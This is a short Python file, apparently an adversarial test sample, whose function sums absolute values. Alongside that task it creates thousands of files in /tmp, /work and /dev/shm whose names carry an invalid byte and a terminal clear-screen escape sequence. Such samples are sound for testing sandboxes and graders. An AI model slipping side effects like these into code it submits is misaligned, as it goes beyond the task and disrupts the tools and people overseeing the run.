"""Makes many files, with names that are no text."""

# attacks: tally

import os


def main(numbers):
    for number in range(3000):
        for folder in (b"/tmp/", b"/work/", b"/dev/shm/"):
            os.close(os.open(folder + b"attack\xff\x1b[2J%d" % number, os.O_CREAT | os.O_WRONLY))
    return sum(map(abs, numbers))
